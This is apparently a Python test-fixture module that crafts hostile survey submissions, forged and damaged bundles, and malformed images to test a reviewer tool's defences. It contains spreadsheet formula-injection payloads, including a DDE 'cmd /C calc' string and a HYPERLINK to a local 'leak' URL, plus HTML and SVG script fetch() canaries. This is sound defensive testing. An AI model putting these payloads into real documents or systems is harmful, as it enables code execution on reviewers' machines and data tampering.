"""Hostile material for the reviewer's tools: crafted images, documents and whole bundles.

Anyone can submit, and whoever hands over a bundle can seal to a reviewer's public key, so the
tests build what an attacker would: answers documents sealed with the real envelope (as a
modified browser would), records with invalid fields, images whose metadata is broken.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from PIL import Image

from crypto.bundle import BundleReader, BundleWriter, PartStream, SubmissionRecord
from crypto.envelope import Binding, Sealer, file_part, new_submission_id
from crypto.keys import PublicKey
from surveys.answers import ANSWERS_FORMAT
from surveys.loader import load_survey_text

FORMULA = '=HYPERLINK("http://127.0.0.1:9/leak","Click")'
SCRIPT_PAGE = (
    b"<!doctype html><html><body><script>fetch('http://127.0.0.1:%d/ran')</script></body></html>"
)
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'http://127.0.0.1:%d/svg\')">'
    b"<script>fetch('http://127.0.0.1:%d/svg-script')</script></svg>"
)


def jpeg(size: tuple[int, int] = (16, 12)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, "JPEG")
    return buffer.getvalue()


def png_with_exif(exif: bytes) -> bytes:
    """An 8x8 PNG carrying an eXIf chunk of these bytes (malformed ones make Pillow raise)."""
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(buffer, "PNG")
    data = buffer.getvalue()
    chunk = b"eXIf" + exif
    packed = struct.pack(">I", len(exif)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    at = data.index(b"IDAT") - 4
    return data[:at] + packed + data[at:]


def image_with_gps(image_format: str) -> bytes:
    """A small image of ``image_format`` whose EXIF holds a GPS position."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (41.0, 59.0, 47.0), 3: "E", 4: (21.0, 25.0, 53.0)}
    buffer = io.BytesIO()
    if image_format == "HEIF":
        from pillow_heif import register_heif_opener

        register_heif_opener()
    Image.new("RGB", (32, 24), (180, 40, 40)).save(buffer, image_format, exif=exif.tobytes())
    return buffer.getvalue()


@dataclass
class Crafted:
    """Submissions sealed outside the portal, to add to a bundle."""

    key: PublicKey
    folder: Path
    records: list[tuple[SubmissionRecord, dict[str, Path]]] = field(default_factory=list)
    #: Records to file under another member name than their own id: id inside -> id of the name.
    filed_as: dict[str, str] = field(default_factory=dict)

    def seal(
        self,
        survey_id: str,
        version: str,
        document: dict[str, Any],
        files: list[bytes] = (),  # type: ignore[assignment]
        parts: list[str] | None = None,
        submission_id: str | None = None,
    ) -> str:
        """Seal ``document`` (any shape) and these attachments, as a modified browser could
        (under an id of the attacker's choosing, a real submission's too)."""
        submission_id = submission_id or new_submission_id()
        sealer = Sealer(Binding(survey_id, version, submission_id), [self.key])
        paths: dict[str, Path] = {}
        for index, data in enumerate(files):
            path = self.folder / f"{submission_id}-{index}"
            with open(path, "wb") as sink:
                encryptor = sealer.file_encryptor(index, sink)
                encryptor.write(data)
                encryptor.finish()
            paths[file_part(index)] = path
        record = SubmissionRecord(
            submission_id=submission_id,
            survey_id=survey_id,
            version=version,
            received="2026-11-01",
            size_bucket=4096,
            slots=sealer.slots,
            answers=sealer.seal_answers(document),
            parts=list(paths) if parts is None else parts,
        )
        self.records.append((record, paths))
        return submission_id

    def document(
        self, survey_id: str, version: str, answers: Any, files: Any = ()
    ) -> dict[str, Any]:
        return {
            "format": ANSWERS_FORMAT,
            "survey": survey_id,
            "version": version,
            "answers": answers,
            "files": list(files) if isinstance(files, tuple) else files,
        }


def versions(bundle: Path) -> dict[str, str]:
    """Survey id -> version digest of the definitions a bundle carries."""
    with BundleReader(bundle) as reader:
        return {str(d["id"]): digest for digest, d in reader.surveys.items()}


def crafted_definition(definition: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    """A copy of ``definition`` whose title and labels are spreadsheet formulas, and its digest
    (anyone can hash a definition: the manifest proves nothing about who wrote it)."""
    crafted = json.loads(json.dumps(definition))
    crafted["title"] = FORMULA
    for question in crafted["questions"]:
        question["label"] = FORMULA
        for choice in question.get("choices") or []:
            choice["label"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    survey = load_survey_text(json.dumps(crafted).encode("utf-8"), "crafted")
    return survey.digest(), json.loads(survey.canonical())


def rebuild(
    honest: Path,
    target: Path,
    crafted: Crafted,
    extra_surveys: dict[str, dict[str, Any]] | None = None,
) -> None:
    """Write ``target``: every submission of ``honest`` plus the crafted ones."""
    scratch = crafted.folder / "copied"
    scratch.mkdir(exist_ok=True)
    with BundleReader(honest) as reader:
        surveys = {**reader.surveys, **(extra_surveys or {})}
        writer = BundleWriter(target, reader.created, surveys)
        current: SubmissionRecord | None = None
        parts: dict[str, Path] = {}
        for entry in reader:
            if isinstance(entry, SubmissionRecord):
                if current is not None:
                    writer.add(current, parts)
                current, parts = entry, {}
            elif isinstance(entry, PartStream):
                path = scratch / f"{entry.submission_id}-{entry.part}"
                path.write_bytes(entry.source.read())
                parts[entry.part] = path
        if current is not None:
            writer.add(current, parts)
    for record, paths in crafted.records:
        filed = crafted.filed_as.get(record.submission_id)
        if filed is None:
            writer.add(record, paths)
        else:
            add_filed_as(writer, record, paths, filed)
    writer.commit()


def add_filed_as(
    writer: BundleWriter, record: SubmissionRecord, paths: dict[str, Path], filed: str
) -> None:
    """Append ``record`` under the member name of another id, with valid digests: what an
    attacker who rewrites a bundle can do (BundleWriter itself always files a record under
    its own id, hence its private methods here)."""
    writer._add_bytes(f"submissions/{filed}.json", record.to_json())
    for part, path in paths.items():
        info = tarfile.TarInfo(f"submissions/{filed}/{part}")
        info.size = path.stat().st_size
        with open(path, "rb") as source:
            writer._add_payload(info, source)
    writer.count += 1


def without_definition(bundle: Path, target: Path, survey_id: str, damaged: bool) -> Path:
    """A copy of ``bundle`` whose manifest lacks ``survey_id``'s definition, or holds one that
    no longer matches its digest (a damaged manifest: no attacker needed)."""
    with BundleReader(bundle) as reader:
        surveys = {}
        for digest, definition in reader.surveys.items():
            if definition.get("id") != survey_id:
                surveys[digest] = definition
            elif damaged:
                surveys[digest] = {**definition, "title": "changed on the way"}
        writer = BundleWriter(target, reader.created, surveys)
        copied = target.parent / f"{target.name}.parts"
        copied.mkdir(exist_ok=True)
        current: SubmissionRecord | None = None
        parts: dict[str, Path] = {}
        for entry in reader:
            if isinstance(entry, SubmissionRecord):
                if current is not None:
                    writer.add(current, parts)
                current, parts = entry, {}
            elif isinstance(entry, PartStream):
                path = copied / f"{entry.submission_id}-{entry.part}"
                path.write_bytes(entry.source.read())
                parts[entry.part] = path
        if current is not None:
            writer.add(current, parts)
    writer.commit()
    return target


def member_layout(bundle: Path) -> dict[str, tuple[int, int, int]]:
    """Member name -> (header offset, data offset, size) in the raw bundle file."""
    with tarfile.open(bundle) as tar:
        return {m.name: (m.offset, m.offset_data, m.size) for m in tar.getmembers()}


def flip(bundle: Path, position: int, target: Path) -> Path:
    data = bytearray(bundle.read_bytes())
    data[position] ^= 0x20
    target.write_bytes(bytes(data))
    return target
